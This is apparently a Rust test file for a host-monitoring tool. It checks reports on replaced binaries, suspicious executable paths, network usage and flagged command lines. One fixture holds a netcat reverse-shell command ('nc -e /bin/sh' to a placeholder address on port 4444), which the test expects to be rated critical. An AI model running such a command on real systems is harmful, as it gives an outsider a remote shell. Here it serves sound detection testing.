//! The same oddities in a database.

use std::ops::Range;
use std::sync::Arc;

use atalaya_model::connection::Traffic;
use atalaya_model::process::{Digest, Package};
use atalaya_model::{
    Connection, Direction, Endpoint, Event, Evidence, Fact, Listener, Process, ProcessKey, Scope, Side, Span,
    Time, Transport,
};
use atalaya_store::{Entry, Options as StoreOptions, Reader, Writer};

use super::*;

const NOW: Time = Time(1_795_123_456_000_000);
const EVER: Range<Time> = Time(i64::MIN)..Time(i64::MAX);

fn process(pid: u32, name: &str, path: &str, line: &str, content: char) -> Process {
    let key = ProcessKey { pid, start: 7 };
    let mut process = Process::bare(key, name.into(), NOW);
    process.executable = Some(path.into());
    process.command_line = Some(line.into());
    process.sha256 = Some(content.to_string().repeat(64).as_str().into());
    process.user_name = Some("ana".into());
    process
}

fn connection(id: u64, process: &Arc<Process>, remote: &str, port: u16) -> Connection {
    Connection {
        id,
        direction: Direction::Outbound,
        scope: Scope::External,
        network_namespace: 1,
        cookie: id,
        user_id: Some(0),
        traffic: Some(Traffic {
            sent_bytes: 10,
            received_bytes: 100,
            ..Traffic::default()
        }),
        process: Some(process.clone()),
        attribution: Evidence::Descriptor.into(),
        ..Connection::bare(
            NOW,
            Transport::Tcp,
            Endpoint::new("192.0.2.1".parse().unwrap(), 40_000),
            Endpoint::new(remote.parse().unwrap(), port),
        )
    }
}

/// A database with these events, a second apart.
fn stored(facts: Vec<Fact>) -> (tempfile::TempDir, Reader) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("a.db");
    let mut writer = Writer::open(&path, &StoreOptions::new("boot-1", "0.1.0", NOW)).unwrap();
    for (second, fact) in (0..).zip(facts) {
        let event = Event::new(NOW.after(Span::from_seconds(second)), fact);
        writer.write(&[Entry::Event(event)]).unwrap();
    }
    let reader = Reader::open(&path).unwrap();
    (folder, reader)
}

#[test]
fn a_replaced_program_is_grave_unless_a_package_replaced_it() {
    let packaged = |mut process: Process| {
        process.package = Some(Package {
            manager: "dpkg".into(),
            name: "x".into(),
            version: None,
            digest: Digest::Agrees,
        });
        process
    };
    let sh = Arc::new(process(3, "sh", "/tmp/sh", "sh -i", 'e'));
    let (_folder, reader) = stored(vec![
        Fact::ProcessStarted(Arc::new(process(1, "cron", "/usr/sbin/cron", "cron", 'a'))),
        Fact::ProcessStarted(Arc::new(process(2, "cron", "/usr/sbin/cron", "cron", 'b'))),
        Fact::ProcessStarted(sh.clone()),
        Fact::ConnectionOpened(Arc::new(connection(9, &sh, "198.51.100.7", 443))),
        Fact::ProcessStarted(Arc::new(packaged(process(
            4,
            "sshd",
            "/usr/sbin/sshd",
            "sshd",
            'c',
        )))),
        Fact::ProcessStarted(Arc::new(packaged(process(
            5,
            "sshd",
            "/usr/sbin/sshd",
            "sshd",
            'd',
        )))),
    ]);
    let mut processes = Processes::new(options());
    stored_processes(&reader, EVER, &mut processes).unwrap();
    let document = processes.finish(sources(Vec::new()));
    assert_eq!(
        rows(
            &document,
            "variations",
            &["severity", "process", "differs", "pid"]
        ),
        [
            ["high", "cron", "sha256", "1"],
            ["high", "cron", "sha256", "2"],
            ["low", "sshd", "sha256", "4"],
            ["low", "sshd", "sha256", "5"]
        ]
    );
    assert_eq!(
        rows(&document, "suspicious_paths", &["path", "user", "connections"]),
        [["/tmp/sh", "ana", "tcp -> 198.51.100.7:443"]]
    );
    assert_eq!(summed(&document, "sightings"), Value::Integer(5));
}

#[test]
fn network_use_is_summed_from_the_rows() {
    let curl = Arc::new(process(
        1,
        "curl",
        "/usr/bin/curl",
        "curl https://198.51.100.7/",
        'a',
    ));
    let sh = Arc::new(process(
        2,
        "sh",
        "/dev/shm/sh",
        "nc -e /bin/sh 203.0.113.66 4444",
        'b',
    ));
    let mut facts = vec![
        Fact::ProcessStarted(curl.clone()),
        Fact::ProcessStarted(sh.clone()),
    ];
    for id in 1..=4 {
        facts.push(Fact::ConnectionOpened(Arc::new(connection(
            id,
            &curl,
            "198.51.100.7",
            443,
        ))));
    }
    facts.push(Fact::ConnectionOpened(Arc::new(connection(
        5,
        &sh,
        "203.0.113.66",
        4444,
    ))));
    let mut unknown = connection(6, &sh, "198.51.100.8", 50_000);
    unknown.process = None;
    // It called us: on the port of our side.
    (unknown.source, unknown.destination) = (
        unknown.destination,
        Endpoint::new("192.0.2.1".parse().unwrap(), 22),
    );
    (unknown.side, unknown.direction) = (Side::Destination, Direction::Inbound);
    facts.push(Fact::ConnectionOpened(Arc::new(unknown)));
    facts.push(Fact::ListenerAppeared(Arc::new(Listener {
        id: 9,
        started: NOW,
        started_before: false,
        ended: None,
        transport: Transport::Tcp,
        local: Endpoint::new("0.0.0.0".parse().unwrap(), 22),
        network_namespace: 1,
        cookie: 9,
        user_id: Some(0),
        service: None,
        process: Some(curl),
        attribution: Evidence::Descriptor.into(),
        shared_with: Box::default(),
    })));
    let (_folder, reader) = stored(facts);
    let verified = |range: Range<Time>| {
        let mut network = Network::new(options());
        stored_network(&reader, range, &mut network).unwrap();
        network.finish(sources(Vec::new()))
    };
    let document = verified(EVER);
    assert_eq!(summed(&document, "connections"), Value::Integer(6));
    assert_eq!(summed(&document, "received_bytes"), Value::Bytes(600));
    assert_eq!(
        rows(
            &document,
            "top_processes",
            &["process", "connections", "sent_bytes"]
        ),
        [["curl", "4", "40"], ["", "1", "10"], ["sh", "1", "10"]]
    );
    assert_eq!(
        rows(&document, "top_ports", &["protocol", "port", "connections"]),
        [["tcp", "443", "4"], ["tcp", "22", "1"], ["tcp", "4444", "1"]]
    );
    assert_eq!(
        rows(&document, "scopes", &["scope", "addresses", "connections"]),
        [["internal", "1", "1"], ["external", "2", "5"]]
    );
    assert_eq!(
        rows(&document, "rare_endpoints", &["address", "port"]),
        [["198.51.100.8", "22"], ["203.0.113.66", "4444"]]
    );
    assert_eq!(
        rows(&document, "suspicious_paths", &["process", "path"]),
        [["sh", "/dev/shm/sh"]]
    );
    assert_eq!(
        rows(&document, "command_lines", &["severity", "pattern", "process"]),
        [
            ["critical", "netcat_shell", "sh"],
            ["low", "address_in_url", "curl"]
        ]
    );
    assert_eq!(
        rows(&document, "listening", &["port", "process"]),
        [["22", "curl"]]
    );
    // Only the first of the connections, and what listened before it.
    let early = verified(EVER.start..NOW.after(Span::from_seconds(3)));
    assert_eq!(summed(&early, "connections"), Value::Integer(1));
}
